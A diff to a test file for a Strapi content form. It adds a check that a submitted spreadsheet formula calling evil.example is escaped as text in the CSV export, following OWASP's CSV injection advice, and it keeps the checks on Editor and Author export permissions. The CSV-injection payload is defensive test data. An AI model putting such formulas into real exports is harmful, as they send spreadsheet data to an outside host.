@@ -232,7 +232,10 @@ describe("a content form through the real Strapi", () => {
     expect(list.status).toBe(404);
   });
 
-  it("lets an Editor read and export submissions, and an Author neither", async () => {
+  it("lets an Editor read and export submissions, and an Author neither; a typed formula is no formula in the export", async () => {
+    const [contact] = await formsOf("/contact");
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"open")';
+    expect((await post("/contact", contact!, { ...contactFields("formula@example.com"), field_name: formula })).status).toBe(200);
     const editor = await adminWithRole(site.cms.url, superToken, "strapi-editor", "FormEditor");
     const author = await adminWithRole(site.cms.url, superToken, "strapi-author", "FormAuthor");
     expect((await adminCall(site.cms.url, "GET", SUBMISSIONS, { token: editor })).status).toBe(200);
@@ -243,8 +246,10 @@ describe("a content form through the real Strapi", () => {
     expect(csv.headers.get("content-type")).toContain("text/csv");
     const text = await csv.text();
     expect(text.split("\r\n")[0]).toBe("submittedAt,form,pagePath,pageLocale,mailStatus,name,email,topic,message,consent");
-    expect(text).toContain("stored@example.com");
+    expect(text).toContain("formula@example.com");
     expect(text).not.toContain("while-down@example.com");
+    // OWASP's CSV injection advice: the cell starts with a quote, so a spreadsheet shows it as text.
+    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""open"")"`);
     const refused = await fetch(`${site.cms.url}/forms/submissions.csv`, { headers: { authorization: `Bearer ${author}` } });
     expect(refused.status).toBe(403);
   });
